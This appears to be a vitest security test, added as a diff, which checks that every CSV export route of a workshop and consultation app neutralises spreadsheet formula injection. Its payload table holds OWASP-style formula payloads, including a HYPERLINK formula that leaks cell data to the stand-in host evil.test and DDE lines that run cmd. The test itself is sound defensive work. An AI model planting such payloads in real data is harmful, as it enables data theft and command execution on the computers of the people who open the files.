@@ -1,0 +1,182 @@
+import { readCsv } from '@essaim/core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { DbHandle } from '../src/db/connect.ts';
+import type { AppInstance } from '../src/http/app-instance.ts';
+import {
+  createOrg,
+  ORIGIN,
+  PASSWORD,
+  setupAdmin,
+  type TestClient,
+  testClient,
+  uniqueEmail,
+} from './factories.ts';
+import { liveSocket } from './live-socket.ts';
+import { fillParams } from './route-fixtures.ts';
+import { buildTestApp } from './test-app.ts';
+import { testDialects } from './test-db.ts';
+
+/** What a participant without an account, or any member, can type (OWASP CSV injection payloads). */
+const PAYLOADS = {
+  name: '=HYPERLINK("http://evil.test/?leak="&A1,"Cliquez ici")',
+  collective: "+SUM(1+1)*cmd|' /C calc'!A0",
+  activity: '@SUM(1+1)',
+  item: "-2+3+cmd|' /C calc'!A0",
+  statement: '=1+1',
+  tab: '\t=1+1',
+} as const;
+
+const FORMULA = /^[=+\-@\t\r]/;
+const NUMBER = /^-?\d+(\.\d+)?(e-?\d+)?$/;
+
+/**
+ * Issue 12 §7: every route that returns CSV (found in the route table, like the tenant-isolation
+ * suite) is called over data holding formula payloads; no cell may start a formula, and each payload
+ * that reached a file appears there guarded.
+ */
+describe.each(testDialects)('CSV exports on $name', (dialect) => {
+  let app: AppInstance;
+  let handle: DbHandle;
+  let owner: TestClient;
+  const ids: Record<string, string> = {};
+
+  beforeAll(async () => {
+    handle = await dialect.open();
+    app = await buildTestApp(handle);
+    const url = await app.listen({ port: 0, host: '127.0.0.1' });
+    owner = (await setupAdmin(app)).client;
+    ids.orgId = await createOrg(owner, 'CSV Org');
+
+    // A member whose display name is a formula (audit export: actor column).
+    const inv = await owner.post(`/api/orgs/${ids.orgId}/invitations`, {
+      email: uniqueEmail(),
+      role: 'member',
+    });
+    const token = inv.json<{ link: string }>().link.split('/invite/')[1]!;
+    const accepted = await testClient(app).post(`/api/invitations/${token}/accept`, {
+      displayName: PAYLOADS.name,
+      password: PASSWORD,
+    });
+    expect(accepted.status).toBe(200);
+
+    // A closed campaign over a collective named with a formula (campaign export: cut labels).
+    const collective = await owner.post(`/api/orgs/${ids.orgId}/collectives`, {
+      name: PAYLOADS.collective,
+      kind: 'team',
+    });
+    expect(collective.status, JSON.stringify(collective.body)).toBe(200);
+    const eng = await owner.post(`/api/orgs/${ids.orgId}/engagements`, {
+      title: 'Engagement',
+      request: 'Request',
+    });
+    const campaign = await owner.post(
+      `/api/orgs/${ids.orgId}/engagements/${eng.json<{ id: string }>().id}/campaigns`,
+      {
+        title: 'C',
+        instrumentRef: 'essaim-ic-pulse',
+        collectiveIds: [collective.json<{ id: string }>().id],
+        hasSharedLink: true,
+      },
+    );
+    expect(campaign.status, JSON.stringify(campaign.body)).toBe(200);
+    ids.campaignId = campaign.json<{ id: string }>().id;
+    expect((await owner.post(`/api/orgs/${ids.orgId}/campaigns/${ids.campaignId}/launch`)).status).toBe(200);
+    expect((await owner.post(`/api/orgs/${ids.orgId}/campaigns/${ids.campaignId}/close`)).status).toBe(200);
+
+    // A workshop whose activity title and items are formulas (workshop export).
+    const w = await owner.post(`/api/orgs/${ids.orgId}/workshops`, { title: 'W' });
+    ids.workshopId = w.json<{ id: string }>().id;
+    const f = await liveSocket(url, owner.cookie ?? '');
+    f.send({ type: 'live.resume', workshopId: ids.workshopId, lastSeq: 0 });
+    await f.waitFor((m) => m.type === 'live.snapshot' || m.type === 'live.events');
+    const add = await f.command(ids.workshopId, {
+      type: 'activity.add',
+      activity: {
+        type: 'dotVote',
+        title: PAYLOADS.activity,
+        config: {
+          items: [
+            { id: 'a', label: PAYLOADS.item },
+            { id: 'b', label: PAYLOADS.tab },
+          ],
+          dotsPerParticipant: 2,
+          maxPerItem: 2,
+        },
+      },
+    });
+    expect(add.type).toBe('live.ack');
+    f.close();
+
+    // A conversation where a participant without an account submits a formula (Polis comments.csv).
+    const conv = await owner.post(`/api/orgs/${ids.orgId}/conversations`, { title: 'Conv' });
+    const { id: conversationId, joinCode } = conv.json<{ id: string; joinCode: string }>();
+    ids.conversationId = conversationId;
+    const joined = await app.inject({
+      method: 'POST',
+      url: `/api/conversations/join/${joinCode}/participants`,
+      payload: {},
+      headers: { origin: ORIGIN },
+    });
+    const participantToken = (JSON.parse(joined.body) as { token: string }).token;
+    const said = await app.inject({
+      method: 'POST',
+      url: `/api/conversations/join/${joinCode}/statements`,
+      payload: { text: PAYLOADS.statement },
+      headers: { origin: ORIGIN, 'x-participant-token': participantToken },
+    });
+    expect(said.statusCode).toBe(200);
+  });
+  afterAll(async () => {
+    await app.close();
+    await handle.close();
+  });
+
+  it('guards every cell of every CSV route', async () => {
+    const acceptsCsv = (q: unknown) =>
+      (q as { safeParse?: (v: unknown) => { success: boolean } } | undefined)?.safeParse?.({ format: 'csv' })
+        .success === true &&
+      (q as { safeParse: (v: unknown) => { success: boolean } }).safeParse({ format: 'no-such-format' })
+        .success === false;
+    const candidates = app.routeTable.filter(
+      (r) => r.method === 'GET' && (r.url.endsWith('.csv') || acceptsCsv(r.schema?.querystring)),
+    );
+    const covered: string[] = [];
+    const failures: string[] = [];
+    const seen = new Set<string>();
+    for (const route of candidates) {
+      const url = fillParams(route.url, ids);
+      const r = await owner.get(route.url.endsWith('.csv') ? url : `${url}?format=csv`);
+      const type = String(r.headers['content-type'] ?? '');
+      if (!type.startsWith('text/csv')) {
+        continue; // a JSON-only export
+      }
+      covered.push(route.url);
+      expect(r.status, route.url).toBe(200);
+      for (const record of readCsv(String(r.body), { trim: false }).records) {
+        for (const cell of record.fields) {
+          if (FORMULA.test(cell) && !NUMBER.test(cell)) {
+            failures.push(`${route.url}: formula cell ${JSON.stringify(cell)}`);
+          }
+          for (const payload of Object.values(PAYLOADS)) {
+            if (cell === `'${payload}` || cell.includes(`'${payload}`)) {
+              seen.add(payload);
+            }
+          }
+        }
+      }
+    }
+    console.log(`CSV routes covered: ${covered.join(', ')}`);
+    expect(failures).toEqual([]);
+    expect(covered).toEqual(
+      expect.arrayContaining([
+        '/api/orgs/:orgId/audit.csv',
+        '/api/orgs/:orgId/campaigns/:campaignId/export.csv',
+        '/api/orgs/:orgId/workshops/:workshopId/export',
+        '/api/orgs/:orgId/conversations/:conversationId/export/comments.csv',
+        '/api/orgs/:orgId/conversations/:conversationId/export/votes.csv',
+      ]),
+    );
+    // Each payload reached some file, guarded (so the sweep really exercised the writer).
+    expect([...seen].sort()).toEqual(Object.values(PAYLOADS).sort());
+  });
+});
